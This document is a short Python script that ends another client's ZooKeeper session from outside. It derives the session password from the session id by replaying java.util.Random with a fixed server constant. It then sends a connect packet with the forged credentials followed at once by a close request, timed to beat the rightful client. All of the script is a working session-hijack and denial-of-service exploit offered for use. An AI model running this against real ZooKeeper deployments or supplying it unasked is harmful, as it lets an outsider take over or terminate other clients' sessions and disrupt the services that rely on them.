"""Ends a ZooKeeper session from outside: zk_session.py HOST:PORT ID-IN-HEX.

A server makes a session's password from its id, so whoever knows the id can join
the session, and closing it there ends it everywhere."""
import socket
import struct
import sys

MASK = (1 << 48) - 1
CLOSE = -11


def password(session):
    """16 bytes of java.util.Random(session ^ the server's constant)."""
    seed = ((session ^ 0xB3415C00) ^ 0x5DEECE66D) & MASK
    out = bytearray()
    while len(out) < 16:
        seed = (seed * 0x5DEECE66D + 0xB) & MASK
        word = seed >> 16
        out += bytes((word >> shift) & 0xFF for shift in (0, 8, 16, 24))
    return bytes(out)


host, port = sys.argv[1].rsplit(":", 1)
session = int(sys.argv[2], 16)
connect = struct.pack(">iqiqi16sb", 0, 0, 10000, session, 16, password(session), 0)
close = struct.pack(">ii", 1, CLOSE)
with socket.create_connection((host, int(port)), 10) as s:
    # At once: the client whose session it is takes it back as soon as it can.
    s.sendall(b"".join(struct.pack(">i", len(m)) + m for m in (connect, close)))
    while s.recv(4096):
        pass
